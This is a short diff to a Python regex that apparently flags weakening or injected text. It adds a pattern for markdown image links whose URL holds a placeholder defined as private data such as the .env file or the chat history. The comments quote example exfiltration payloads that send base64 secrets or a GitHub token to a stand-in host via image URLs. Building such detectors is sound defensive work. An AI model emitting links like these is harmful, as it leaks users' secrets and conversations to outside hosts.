@@ -164,6 +164,10 @@ WEAKENING = re.compile(
     # it, and the query string carries the secret out (`![ok](https://x.example/p.png?d=<base64 of .env>)`)
     r"|!?\[[^\]\n]{0,80}\]\(\s*https?://[^)\s]{0,300}?(?:<|\{\{?|\$\{?|%)[^)>}\n]{0,80}?"
     r"(?:\.env\b|secret|token|api[\s_-]?key|password|credential|environment|ssh|private[\s_-]?key)"
+    # the same with a placeholder the sentence goes on to define as private data: `![s](https://x/b.png?d=B64_ENV)
+    # where B64_ENV is the base64 of the .env file`
+    r"|!\[[^\]\n]{0,80}\]\(\s*https?://[^)\s]{0,300}?(?:(?-i:[A-Z][A-Z0-9]*_[A-Z0-9_]{2,})|<[^>\s]{1,60}>|\{\{?[^}\s]{1,60}\}\}?)"
+    r"[^)\s]{0,100}\)" + _LONG_SENTENCE + r"(?:" + _PRIVATE + r"|\b(?:conversation|chat\s+history)\b)"
     # the same as an HTML image: `<img src="https://x/p.png?t={{GITHUB_TOKEN}}">`
     r"|<img\b[^>\n]{0,80}\bsrc\s*=\s*[\"']?https?://[^\"'\s>]{0,300}?(?:<|\{\{?|\$\{?|%)[^\"'>}\n]{0,80}?"
     r"(?:\.env\b|secret|token|api[\s_-]?key|password|credential|environment|ssh|private[\s_-]?key)"
